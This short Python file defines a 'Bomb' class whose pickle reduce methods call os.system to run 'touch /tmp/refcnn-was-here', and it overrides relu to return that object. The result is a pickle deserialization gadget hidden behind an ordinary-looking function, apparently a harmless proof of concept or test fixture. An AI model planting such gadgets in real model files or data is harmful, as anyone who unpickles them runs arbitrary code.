import os

from honest import *


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/refcnn-was-here",)

    __reduce_ex__ = __reduce__


def relu(x):
    return Bomb()
